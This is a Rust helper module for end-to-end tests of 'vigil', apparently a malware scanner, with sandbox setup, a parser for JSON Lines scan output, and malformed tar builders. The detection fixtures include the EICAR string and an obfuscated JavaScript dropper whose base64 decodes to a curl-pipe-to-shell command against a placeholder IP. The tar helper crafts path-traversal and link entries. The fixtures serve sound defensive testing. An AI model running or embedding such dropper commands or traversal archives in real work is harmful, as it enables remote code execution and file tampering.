//! Helpers shared by the end-to-end tests: a sandbox folder with its own state dir and
//! configuration, and a runner for the real `vigil` binary that parses its JSON Lines output.
#![allow(dead_code)]

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;

/// A path as text (test paths are UTF-8).
pub fn text(path: &Path) -> &str {
    path.to_str().unwrap()
}

/// A finished command's standard error, for assertion messages.
pub fn stderr(output: &std::process::Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

/// The EICAR test string, assembled at run time so no source file holds it whole.
pub fn eicar() -> Vec<u8> {
    let mut bytes = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-".to_vec();
    bytes.extend_from_slice(b"ANTIVIRUS-TEST-FILE!$H+H*");
    bytes
}

/// A JavaScript dropper that runs a base64-encoded command line with `eval(atob(...))`, which
/// the obfuscated-script plugin reports.
pub fn encoded_dropper_js() -> String {
    // Base64 of "curl -s http://198.51.100.7/x | sh; " (36 bytes, so it repeats cleanly).
    let blob = "Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBzaDsg".repeat(13);
    format!("var p = \"{blob}\";\neval(atob(p));\n")
}

/// The hostile test plugin (`tests/hostile-plugin`: traps, loops, floods... on files whose content
/// names the misbehaviour), built once per test binary.
pub fn hostile_plugin() -> &'static Path {
    static WASM: std::sync::OnceLock<PathBuf> = std::sync::OnceLock::new();
    WASM.get_or_init(|| build_test_plugin("tests/hostile-plugin"))
}

/// Builds the plugin crate at `relative` (from the repository root) to WebAssembly.
#[allow(dead_code)] // not every test binary builds a plugin
pub fn build_test_plugin(relative: &str) -> PathBuf {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join(relative);
    vigil_plugin_build::build(&dir, &vigil_plugin_build::default_target_dir(&dir))
        .unwrap_or_else(|err| panic!("{relative} builds: {err}"))
}

/// Makes a publisher key in the sandbox (`vigil definitions keygen`) and configures the
/// sandbox to trust it (replacing its configuration); returns the key file and its public line.
#[allow(dead_code)] // not every test binary installs drops
pub fn trusted_publisher_key(sandbox: &Sandbox) -> (PathBuf, String) {
    let key_file = sandbox.root().join("publisher.key");
    let output = sandbox.run(&["definitions", "keygen", "--out", text(&key_file)]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let public_line = std::fs::read_to_string(format!("{}.pub", text(&key_file)))
        .unwrap()
        .trim()
        .to_string();
    sandbox.configure(&format!(
        "[definitions]\ntrusted_keys = [\"{public_line}\"]\n"
    ));
    (key_file, public_line)
}

/// A temporary folder holding the corpus, the state dir and the configuration of one test.
pub struct Sandbox {
    root: tempfile::TempDir,
}

impl Sandbox {
    /// A fresh sandbox, readable by every user (some tests scan as an unprivileged user).
    pub fn new() -> Self {
        let root = tempfile::tempdir().unwrap();
        std::fs::set_permissions(root.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
        for dir in ["corpus", "state"] {
            std::fs::create_dir(root.path().join(dir)).unwrap();
        }
        std::fs::set_permissions(
            root.path().join("state"),
            std::fs::Permissions::from_mode(0o777),
        )
        .unwrap();
        std::fs::write(root.path().join("vigil.toml"), "").unwrap();
        Self { root }
    }

    /// The sandbox's root folder.
    pub fn root(&self) -> &Path {
        self.root.path()
    }

    /// A path inside the corpus folder.
    pub fn corpus(&self, relative: &str) -> PathBuf {
        self.root.path().join("corpus").join(relative)
    }

    /// Writes a corpus file (creating its folders) and returns its path.
    pub fn write(&self, relative: &str, contents: impl AsRef<[u8]>) -> PathBuf {
        let path = self.corpus(relative);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, contents).unwrap();
        path
    }

    /// Writes a file in the sandbox but outside the corpus (rules, plugins, keys).
    pub fn write_outside(&self, name: &str, contents: impl AsRef<[u8]>) -> PathBuf {
        let path = self.root().join(name);
        std::fs::write(&path, contents).unwrap();
        path
    }

    /// Replaces the configuration file.
    pub fn configure(&self, toml: &str) {
        std::fs::write(self.config_path(), toml).unwrap();
    }

    /// The configuration file the sandbox's commands use.
    pub fn config_path(&self) -> PathBuf {
        self.root.path().join("vigil.toml")
    }

    /// The state dir the sandbox's commands use.
    pub fn state_dir(&self) -> PathBuf {
        self.root.path().join("state")
    }

    /// A `vigil` command bound to this sandbox's state dir and configuration.
    pub fn vigil(&self) -> Command {
        let mut command = Command::new(env!("CARGO_BIN_EXE_vigil"));
        command
            .env("VIGIL_STATE_DIR", self.state_dir())
            .env("VIGIL_CONFIG", self.config_path())
            .env_remove("VIGIL_FAULT_TRUNCATE_MAPPED");
        command
    }

    /// Runs `vigil <args>` in this sandbox.
    pub fn run(&self, args: &[&str]) -> std::process::Output {
        self.vigil().args(args).output().unwrap()
    }

    /// Quarantines every threat in the corpus with a scan.
    pub fn quarantine_corpus(&self) -> Scan {
        self.scan(&["custom", text(&self.corpus("")), "--action", "quarantine"])
    }

    /// Runs `vigil scan <args> --format jsonl` and parses what it printed.
    pub fn scan(&self, args: &[&str]) -> Scan {
        self.run_scan(self.vigil(), args)
    }

    /// Like [`Sandbox::scan`], with a prepared command (extra environment, another user...).
    pub fn run_scan(&self, mut command: Command, args: &[&str]) -> Scan {
        command.arg("scan").args(args).args(["--format", "jsonl"]);
        Scan::from_output(command.output().unwrap())
    }
}

/// What one scan printed.
#[derive(Debug)]
pub struct Scan {
    /// The exit code.
    pub code: i32,
    /// Every JSON Lines record, in order.
    pub records: Vec<Value>,
    /// Standard error, for assertion messages.
    pub stderr: String,
}

impl Scan {
    fn from_output(output: std::process::Output) -> Self {
        let stdout = String::from_utf8(output.stdout).unwrap();
        let records = stdout
            .lines()
            .map(|line| {
                serde_json::from_str(line).unwrap_or_else(|e| panic!("bad JSON line {line:?}: {e}"))
            })
            .collect();
        Self {
            code: output.status.code().unwrap_or(-1),
            records,
            stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
        }
    }

    /// Records of one `type`.
    pub fn of_type(&self, kind: &str) -> Vec<&Value> {
        self.records.iter().filter(|r| r["type"] == kind).collect()
    }

    /// Sorted `(path, rule)` pairs of every detection.
    pub fn detections(&self) -> Vec<(String, String)> {
        let mut pairs: Vec<_> = self
            .of_type("detection")
            .iter()
            .map(|r| {
                (
                    r["path"].as_str().unwrap().to_string(),
                    r["rule"].as_str().unwrap().to_string(),
                )
            })
            .collect();
        pairs.sort();
        pairs
    }

    /// The `reason` of the error or skipped record about `path`, if any.
    pub fn reason(&self, kind: &str, path: &Path) -> Option<String> {
        self.of_type(kind)
            .iter()
            .find(|r| r["path"] == path.to_str().unwrap())
            .map(|r| r["reason"].as_str().unwrap().to_string())
    }

    /// The closing summary record.
    pub fn summary(&self) -> &Value {
        let last = self.records.last().expect("a scan prints a summary");
        assert_eq!(last["type"], "summary", "the summary comes last");
        last
    }

    /// Whether any record names a path under `dir`.
    pub fn mentions_under(&self, dir: &Path) -> bool {
        self.records
            .iter()
            .filter_map(|r| r["path"].as_str())
            .any(|p| Path::new(p).starts_with(dir))
    }
}

/// One tar entry: name, type, content.
pub type TarEntry = (String, tar::EntryType, Vec<u8>);

/// A tar written entry by entry with raw headers, so that names and entry types a well-behaved
/// builder refuses (`..`, absolute paths, links, duplicates) can be made, as an attacker would.
pub fn raw_tar(entries: &[TarEntry]) -> Vec<u8> {
    let mut archive = tar::Builder::new(Vec::new());
    for (name, kind, content) in entries {
        let mut header = tar::Header::new_gnu();
        header.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
        header.set_size(content.len() as u64);
        header.set_entry_type(*kind);
        header.set_mode(0o644);
        if *kind != tar::EntryType::Regular {
            header.set_link_name_literal("rules/a.yar").unwrap();
        }
        header.set_cksum();
        archive.append(&header, content.as_slice()).unwrap();
    }
    archive.into_inner().unwrap()
}

/// The entries of a tar, in order.
pub fn tar_entries(bytes: &[u8]) -> Vec<TarEntry> {
    use std::io::Read;
    let mut archive = tar::Archive::new(bytes);
    archive
        .entries()
        .unwrap()
        .map(|entry| {
            let mut entry = entry.unwrap();
            let name = String::from_utf8(entry.path_bytes().into_owned()).unwrap();
            let kind = entry.header().entry_type();
            let mut content = Vec::new();
            entry.read_to_end(&mut content).unwrap();
            (name, kind, content)
        })
        .collect()
}
